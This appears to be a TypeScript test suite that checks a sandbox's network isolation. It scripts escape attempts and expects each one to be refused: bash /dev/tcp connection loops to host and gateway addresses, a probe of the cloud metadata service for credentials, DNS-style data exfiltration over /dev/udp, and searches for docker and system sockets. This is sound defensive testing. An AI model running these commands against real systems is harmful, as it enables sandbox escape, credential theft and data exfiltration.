import { readFileSync } from 'node:fs';
import { expect } from 'vitest';

import { resultOf, type Attack, type Outcome } from './attack.js';

const fails = (outcome: Outcome): void => expect(resultOf(outcome).exitCode).not.toBe(0);

/** Text that tries each address in turn and succeeds where one answers. */
const connect = (addresses: readonly string[], port: number): string =>
  `for a in ${addresses.join(' ')}; do timeout 3 bash -c "exec 3<>/dev/tcp/$a/${port} && cat <&3" && exit 0; done; exit 1`;

/** Attempts to reach anything beyond the sandbox; the host counts who comes. */
export const NETWORK: readonly Attack[] = [
  {
    name: "connects to a server of the host on the host's loopback",
    script: (w) => connect(['127.0.0.1', '127.0.0.53', 'localhost'], w.port),
    refused: fails,
  },
  {
    name: "connects to a server of the host by the host's addresses",
    script: (w) => connect(w.addresses.length > 0 ? w.addresses : ['127.0.0.2'], w.port),
    refused: fails,
  },
  {
    name: 'connects to the host by the gateways that containers and machines have',
    script: (w) =>
      connect([...gateways(), '172.17.0.1', '10.0.2.2', '192.168.65.2', 'host.docker.internal'], w.port),
    options: { timeout: 40_000 },
    refused: fails,
  },
  {
    name: 'connects to an address of the internet',
    script: () => connect(['1.1.1.1', '8.8.8.8'], 53),
    refused: fails,
  },
  {
    name: "asks a cloud's metadata service for credentials",
    script: () => connect(['169.254.169.254'], 80),
    refused: fails,
  },
  {
    name: 'resolves a name',
    script: () => 'timeout 5 getent hosts example.com || timeout 5 getent ahosts github.com',
    refused: fails,
  },
  {
    name: 'carries data out by questions to a name server',
    script: (w) =>
      `for a in ${[...gateways(), '1.1.1.1'].join(' ')}; do printf x > /dev/udp/$a/53 && exit 0; done; printf x > /dev/udp/127.0.0.1/${w.port}; exit 1`,
    refused: fails,
  },
  {
    name: 'has a network interface but loopback that is up',
    script: () =>
      `tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | grep -v '^lo$' | while read -r i; do awk -v i=$i '$1==i' /proc/net/route; done`,
    refused: (outcome) => expect(resultOf(outcome).stdout).toBe(''),
  },
  {
    name: 'finds the socket of a container engine or of the system',
    script: () =>
      'ls -d /var/run/docker.sock /run/docker.sock /run/podman/podman.sock /run/containerd/containerd.sock /run/dbus/system_bus_socket /run/systemd/private /tmp/.X11-unix /run/user/* 2>/dev/null',
    refused: (outcome) => {
      fails(outcome);
      expect(resultOf(outcome).stdout).toBe('');
    },
  },
  {
    name: 'connects to an abstract socket of the host',
    script: (w) =>
      `grep -F ${w.abstractSocket} /proc/net/unix && exit 0; python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect("\\0${w.abstractSocket}"); print(s.recv(99))'`,
    refused: (outcome) => {
      fails(outcome);
      expect(resultOf(outcome).stdout).toBe('');
    },
  },
];

/** The host's own gateways, from its routes. */
function gateways(): string[] {
  try {
    return readFileSync('/proc/net/route', 'utf8')
      .split('\n')
      .slice(1)
      .map((line) => line.split('\t')[2] ?? '')
      .filter((hex) => /^[0-9A-F]{8}$/.test(hex) && hex !== '00000000')
      .map((hex) =>
        (hex.match(/../g) ?? [])
          .toReversed()
          .map((byte) => parseInt(byte, 16))
          .join('.'),
      );
  } catch {
    return [];
  }
}
